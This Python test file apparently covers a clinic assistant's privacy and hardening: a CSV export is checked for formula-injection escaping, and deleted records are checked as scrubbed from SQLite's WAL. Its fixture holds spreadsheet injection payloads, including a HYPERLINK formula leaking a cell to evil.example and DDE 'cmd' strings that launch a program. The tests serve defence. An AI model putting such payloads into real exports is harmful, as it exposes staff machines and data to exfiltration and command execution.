"""Data hygiene and limits, without servers: the staff CSV export of hostile text,
references never reused, deletions scrubbed from SQLite's files, private file
modes, the rate-limit settings and their SQLite counters, and the log filter."""

from __future__ import annotations

import csv
import logging
import sqlite3
import stat
import threading
import warnings
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import List

import pytest

from assistant.callback_requests import cli as requests_cli
from assistant.callback_requests.store import Base, CallbackDraft, CallbackStore
from assistant.paths import PROJECT_ROOT
from assistant.rasa_server.rate_limits import Limiter, RateLimits, parse_rate_limits
from assistant.settings.clinic import ClinicConfigError, parse_clinic
from assistant.shared.sqlite_hygiene import use_wal

HOSTILE = {
    "name": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "preferred_time": "+1+cmd|' /C calc'!A0",
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def draft(key: str, contact: str = "+61412345678", **fields: str) -> CallbackDraft:
    values = {"name": "Sam", "preferred_time": "Evenings", "reason": None, **fields}
    return CallbackDraft(key, f"conv-{key}", values["name"], contact, "phone", values["preferred_time"],
                         values["reason"])


def read_csv(path: Path) -> List[List[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# ---- the CSV export ---------------------------------------------------------------

def test_the_csv_export_of_hostile_text_holds_no_formula_and_keeps_phone_numbers_as_text(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"sqlite:///{tmp_path / 'requests.db'}"
    store = CallbackStore(url)
    store.submit(draft("a", **HOSTILE), notify=False)
    store.submit(draft("b", contact="-1+1", name="\tTabbed", preferred_time="\rReturn", reason="-2-3"),
                 notify=False)
    store.submit(draft("c", contact="someone@mail.example", name="Plain Name", reason="plain"), notify=False)
    monkeypatch.setenv("REQUESTS_DB_URL", url)
    out = tmp_path / "export.csv"
    assert requests_cli.main(["export", str(out)]) == 0

    header, first, second, third = read_csv(out)
    assert header == requests_cli.COLUMNS
    column = {name: index for index, name in enumerate(header)}
    assert first[column["name"]] == "'" + HOSTILE["name"]
    assert first[column["preferred_time"]] == "'" + HOSTILE["preferred_time"]
    assert first[column["reason"]] == "'" + HOSTILE["reason"]
    assert first[column["contact"]] == "'+61412345678"  # text, not the number 61412345678
    assert second[column["contact"]] == "'-1+1"
    assert second[column["name"]] == "'\tTabbed"
    assert second[column["preferred_time"]] == "'\rReturn"
    assert second[column["reason"]] == "'-2-3"
    assert third[column["contact"]] == "someone@mail.example" and third[column["name"]] == "Plain Name"
    for row in (first, second, third):
        assert not any(cell.startswith(requests_cli.FORMULA_STARTS) for cell in row), row
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_an_export_over_an_existing_readable_file_makes_it_private(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REQUESTS_DB_URL", f"sqlite:///{tmp_path / 'requests.db'}")
    out = tmp_path / "export.csv"
    out.write_text("old")
    out.chmod(0o644)
    assert requests_cli.main(["export", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "requests.db").stat().st_mode) == 0o600


# ---- references ---------------------------------------------------------------------

def test_a_deleted_reference_is_never_handed_out_again(tmp_path: Path) -> None:
    store = CallbackStore(f"sqlite:///{tmp_path / 'requests.db'}")
    first, _ = store.submit(draft("a"), notify=False)
    last, _ = store.submit(draft("b"), notify=True)
    assert store.delete_conversation("conv-b") == 1  # the newest: SQLite would reuse its id
    again, _ = store.submit(draft("c"), notify=False)
    assert (first.id, last.id, again.id) == (1, 2, 3)


def test_a_database_made_before_autoincrement_is_rebuilt_once_and_keeps_its_requests(tmp_path: Path) -> None:
    path = tmp_path / "requests.db"
    from sqlalchemy import create_engine

    table = Base.metadata.tables["callback_requests"]
    table.dialect_kwargs.pop("sqlite_autoincrement")
    try:
        Base.metadata.create_all(create_engine(f"sqlite:///{path}"))
    finally:
        table.dialect_kwargs["sqlite_autoincrement"] = True
    with sqlite3.connect(path) as db:
        db.execute("INSERT INTO callback_requests (id, request_key, conversation_id, created_at, status, "
                   "name, contact, contact_type, preferred_time, consent_at) VALUES (7, 'old', 'conv-old', "
                   "'2026-11-01 10:00:00', 'open', 'Old Request', '+61412345678', 'phone', 'Any time', "
                   "'2026-11-01 10:00:00')")
    store = CallbackStore(f"sqlite:///{path}")
    assert [(r.id, r.name) for r in store.requests()] == [(7, "Old Request")]
    store.delete_conversation("conv-old")
    new, _ = store.submit(draft("new"), notify=False)
    assert new.id == 8
    with sqlite3.connect(path) as db:
        sql = db.execute("SELECT sql FROM sqlite_master WHERE name = 'callback_requests'").fetchone()[0]
    assert "AUTOINCREMENT" in sql


def leftovers(path: Path, *secrets: str) -> List[str]:
    """The database's files (itself, -wal, -journal) that still hold one of `secrets`."""
    return sorted(f.name for f in path.parent.glob(path.name + "*")
                  if any(secret.encode() in f.read_bytes() for secret in secrets))


def test_a_deleted_request_is_gone_from_the_file_and_its_wal(tmp_path: Path) -> None:
    path = tmp_path / "requests.db"
    store = CallbackStore(f"sqlite:///{path}")
    store.requests()
    # Another process (a worker, a staff tool) with the database open keeps the
    # WAL file, and with it every earlier version of its pages.
    other_process = sqlite3.connect(path)
    other_process.execute("PRAGMA journal_mode=WAL")
    try:
        secret = "scrubbed.person@mail.example"
        store.submit(draft("a", contact=secret, name="Scrubbed Person"), notify=False)
        store.submit(draft("b", contact="+61412000000"), notify=False)
        assert leftovers(path, secret)
        store.delete_conversation("conv-a")
        assert leftovers(path, secret, "Scrubbed Person") == []
        assert [r.contact for r in store.requests()] == ["+61412000000"]
    finally:
        other_process.close()


def test_a_forgotten_conversation_is_gone_from_tracker_db_and_its_wal(tmp_path: Path) -> None:
    import json
    import time

    from assistant.rasa_server.tracker_store import PrivacySQLTrackerStore

    path = tmp_path / "tracker.db"
    store = PrivacySQLTrackerStore(dialect="sqlite", db=str(path))
    secret = "forgotten.visitor@mail.example"
    with store.session_scope() as session:
        for sender, text in (("forget-me", secret), ("keep-me", "does it hurt?")):
            for _ in range(20):
                session.add(store.SQLEvent(sender_id=sender, type_name="user", timestamp=time.time(),
                                           data=json.dumps({"event": "user", "text": text})))
        session.commit()
    assert "tracker.db-wal" in leftovers(path, secret)
    assert store.delete_conversation("forget-me") == 20
    assert leftovers(path, secret) == []
    with store.session_scope() as session:
        assert session.query(store.SQLEvent).filter_by(sender_id="keep-me").count() == 20


# ---- rate-limit settings and counters -----------------------------------------------------

def clinic_with(rate_limits: object) -> dict:
    import yaml

    raw = yaml.safe_load((PROJECT_ROOT / "clinic.yml").read_text(encoding="utf-8"))
    raw["rate_limits"] = rate_limits
    return raw


def test_processes_opening_a_new_database_together_all_get_wal(tmp_path: Path) -> None:
    """Switching a new file to WAL answered "database is locked" at once to the
    loser of a race, without the busy timeout (23 failures in 200 four-way races
    before use_wal; it failed CI through the lock store)."""
    for trial in range(40):
        path = tmp_path / f"race-{trial}.db"
        start = threading.Barrier(4)

        def open_and_write(start: threading.Barrier = start, path: Path = path) -> str:
            start.wait()
            connection = sqlite3.connect(path, timeout=30, isolation_level=None)
            use_wal(connection)
            connection.execute("CREATE TABLE IF NOT EXISTS t (a)")
            mode = connection.execute("PRAGMA journal_mode").fetchone()[0]
            connection.close()
            return mode

        with ThreadPoolExecutor(4) as pool:
            assert list(pool.map(lambda _: open_and_write(), range(4))) == ["wal"] * 4


def test_rate_limits_come_from_clinic_yml_with_defaults() -> None:
    assert parse_clinic(clinic_with(None)).rate_limits == RateLimits()
    limits = parse_clinic(clinic_with({"callback_requests_per_ip": "5/hour",
                                       "messages_per_ip": "60 per minute; 500/day"})).rate_limits
    assert limits.callback_requests_per_ip == "5/hour"
    assert [(i.amount, i.GRANULARITY.name) for i in limits.items("messages_per_ip")] == [(60, "minute"),
                                                                                       (500, "day")]
    assert limits.messages_per_conversation == RateLimits().messages_per_conversation


@pytest.mark.parametrize(("value", "message"), [
    ({"messages_per_visitor": "5/minute"}, "unknown key 'messages_per_visitor'"),
    ({"messages_per_ip": "lots"}, "rate_limits'.messages_per_ip 'lots' is not a limit"),
    ({"messages_per_ip": True}, "is not a limit"),
    ({"callback_requests_per_ip": ""}, "is not a limit"),
    (["5/minute"], "must be a mapping"),
])
def test_a_bad_rate_limit_stops_the_start_naming_the_key(value: object, message: str) -> None:
    with pytest.raises(ClinicConfigError, match="clinic config") as error:
        parse_clinic(clinic_with(value))
    assert message in str(error.value)


def test_sqlite_counters_are_shared_by_every_process_of_one_server(tmp_path: Path) -> None:
    uri = f"sqlite:///{tmp_path / 'limits.db'}"
    limits = parse_rate_limits({"messages_per_ip": "5/minute;7/hour"})
    worker_1, worker_2 = Limiter(limits, uri), Limiter(limits, uri)  # two connections, as two workers
    results = [(worker_1 if n % 2 else worker_2).hit("messages_per_ip", "client-a") for n in range(6)]
    assert results[:5] == [None] * 5 and 1 <= (results[5] or 0) <= 60
    assert worker_1.hit("messages_per_ip", "client-b") is None  # per key
    assert stat.S_IMODE((tmp_path / "limits.db").stat().st_mode) == 0o600


def test_a_fixed_window_starts_again_when_it_expires(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import time as real_time

    from assistant.rasa_server import rate_limits

    now = [1_800_000_000.0]
    monkeypatch.setattr(rate_limits.time, "time", lambda: now[0])
    limiter = Limiter(parse_rate_limits({"messages_per_ip": "2/minute"}), f"sqlite:///{tmp_path / 'l.db'}")
    storage = limiter.storage
    assert storage.incr("k", 60) == 1 and storage.incr("k", 60) == 2
    assert storage.get("k") == 2 and storage.get_expiry("k") == now[0] + 60
    now[0] += 61
    assert storage.get("k") == 0 and storage.incr("k", 60) == 1
    assert real_time.time() > 0


# ---- file modes ----------------------------------------------------------------------------

def test_secure_directory_tightens_files_an_older_version_left_readable(tmp_path: Path) -> None:
    from assistant.shared.private_files import make_private_dir, secure_directory

    data = tmp_path / "var"
    data.mkdir(mode=0o755)
    (data / "tracker.db").write_text("x")
    (data / "tracker.db").chmod(0o644)
    (data / "cluster").mkdir(mode=0o755)  # other users' services live there: left alone
    secure_directory(make_private_dir(data))
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert stat.S_IMODE((data / "tracker.db").stat().st_mode) == 0o600
    assert stat.S_IMODE((data / "cluster").stat().st_mode) == 0o755


def test_the_conversation_secret_is_created_once_private_and_shared(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.rasa_server import conversation_token

    monkeypatch.delenv(conversation_token.SECRET_ENV, raising=False)
    monkeypatch.setenv("TRACKER_DB", str(tmp_path / "var" / "tracker.db"))
    conversation_token.server_secret.cache_clear()
    try:
        token = conversation_token.token_for("web-1")
        key = tmp_path / "var" / conversation_token.SECRET_FILE_NAME
        assert stat.S_IMODE(key.stat().st_mode) == 0o600
        assert stat.S_IMODE(key.parent.stat().st_mode) == 0o700
        conversation_token.server_secret.cache_clear()  # another process reads the same file
        assert conversation_token.token_for("web-1") == token != conversation_token.token_for("web-2")
        assert conversation_token.token_valid("web-1", token)
        assert not conversation_token.token_valid("web-1", token + "x")
        assert not conversation_token.token_valid("web-1", None)
    finally:
        conversation_token.server_secret.cache_clear()


# ---- logs ----------------------------------------------------------------------------------

def test_rasas_warnings_and_log_lines_that_quote_a_message_are_dropped(
        caplog: pytest.LogCaptureFixture) -> None:
    from assistant.shared.log_privacy import DropMessageText, keep_message_text_out_of_logs

    keep_message_text_out_of_logs()
    with warnings.catch_warnings(record=True) as caught:
        warnings.filterwarnings("once", category=UserWarning)  # what Rasa adds later...
        keep_message_text_out_of_logs()  # ...and why this runs after it
        warnings.warn("Failed to parse arguments in line '/inform{\"email\": \"a@b.c\"}'. ...", UserWarning,
                      stacklevel=1)
        warnings.warn("an unrelated warning", UserWarning, stacklevel=1)
    assert [str(w.message) for w in caught] == ["an unrelated warning"]
    drop = DropMessageText()
    quoting = logging.LogRecord("rasa", logging.WARNING, __file__, 1,
                                "message.parsing.failed user_text=/{secret}", None, None)
    other = logging.LogRecord("rasa", logging.WARNING, __file__, 1, "Rasa server is up", None, None)
    assert not drop.filter(quoting) and drop.filter(other)
